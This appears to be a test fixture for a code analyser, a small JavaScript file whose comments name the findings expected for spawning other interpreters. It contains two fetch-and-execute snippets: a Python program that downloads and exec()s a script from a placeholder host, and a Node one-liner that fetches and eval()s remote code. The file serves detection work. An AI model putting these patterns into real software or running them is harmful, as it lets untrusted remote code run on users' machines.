const cp = require('child_process');

// Programs for other interpreters: as an argument, as a constant beside a call that knows neither, and for its standard input.
const BOOT = `
import sys, urllib.request as u
exec(u.urlopen("https://wheels.example.invalid/boot.py", timeout=5).read())
print(sys.version)
`;

class Python {
  constructor(bin) { this.bin = bin; }
  run(args) { return cp.spawn(this.bin, args); } // want "a program beside the call|runs what it has just fetched"
  boot() { return this.run(['-c', BOOT]); }
}
new Python(process.env.PYTHON).boot();
cp.spawn(process.execPath, ['-e', "require('https').get('https://b.example.invalid/x',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})"]); // want "runs what it has just fetched"
